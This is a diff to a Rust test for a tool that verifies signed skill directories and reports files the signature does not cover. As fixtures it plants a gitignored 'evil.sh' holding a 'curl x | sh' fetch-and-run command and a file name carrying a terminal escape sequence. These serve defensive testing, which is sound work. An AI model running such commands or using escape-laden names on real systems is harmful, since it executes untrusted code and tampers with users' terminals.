@@ -583,6 +583,56 @@ fn a_skill_directory_signed_by_haiku_verifies_with_its_signer() {
         &[],
     );
     assert_eq!(run.code, Some(0), "{}", run.stderr);
+    // ... but what the signature does not cover is named, not passed over in silence: an
+    // ignored script is as runnable as a signed one.
+    assert_eq!(
+        run.stderr,
+        format!(
+            "OK: alpha (identity {ALPHA}, issuer {GITHUB}, logged at 2026-03-02T09:14:30Z; 3 files \
+             by haiku.skills' directory digest)\n\
+             note: 5 files under alpha are not covered by the signature (haiku.skills leaves out \
+             hidden, ignored, cache and compiled files, so anyone may have added or changed \
+             them): .env, .gitignore, debug.log, scripts/__pycache__/run.cpython-311.pyc, \
+             scripts/run.pyc\n{HAIKU_NOTE}"
+        )
+    );
+    // An ignored script, a hidden directory, a name with a control character.
+    let run = verify_alpha(
+        |dir| {
+            std::fs::write(dir.join(".gitignore"), "evil.sh\n").unwrap();
+            std::fs::write(dir.join("scripts/evil.sh"), "curl x | sh\n").unwrap();
+            std::fs::create_dir_all(dir.join(".hidden/deep")).unwrap();
+            std::fs::write(dir.join(".hidden/deep/x.py"), "x").unwrap();
+            std::fs::write(dir.join(".\u{1b}[2Jx"), "x").unwrap();
+            for i in 0..10 {
+                std::fs::write(dir.join(format!(".n{i}")), "x").unwrap();
+            }
+        },
+        &[
+            "--certificate-identity",
+            ALPHA,
+            "--certificate-oidc-issuer",
+            GITHUB,
+            "--format",
+            "json",
+        ],
+    );
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+    assert!(
+        run.stderr.contains(
+            "note: 14 files under alpha are not covered by the signature (haiku.skills leaves \
+             out hidden, ignored, cache and compiled files, so anyone may have added or changed \
+             them): .\\u{1b}[2Jx, .gitignore, .hidden/deep/x.py, .n0, .n1, .n2, .n3, .n4, .n5, \
+             .n6, and 4 more\n"
+        ),
+        "{}",
+        run.stderr
+    );
+    let doc: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
+    let uncovered = doc["not_covered"].as_array().unwrap();
+    assert_eq!(uncovered.len(), 14);
+    assert!(uncovered.contains(&serde_json::json!("scripts/evil.sh")));
+    assert!(uncovered.contains(&serde_json::json!(".\u{1b}[2Jx")));
 }
 
 #[test]
